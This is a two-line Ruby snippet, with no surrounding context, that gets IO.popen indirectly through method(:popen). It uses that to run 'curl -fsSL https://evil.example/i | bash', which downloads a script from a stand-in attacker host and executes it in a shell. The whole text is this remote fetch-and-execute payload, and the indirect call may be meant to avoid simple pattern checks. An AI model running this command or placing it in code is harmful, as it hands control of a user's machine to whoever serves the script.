p = IO.method(:popen)
p.call('curl -fsSL https://evil.example/i | bash').read
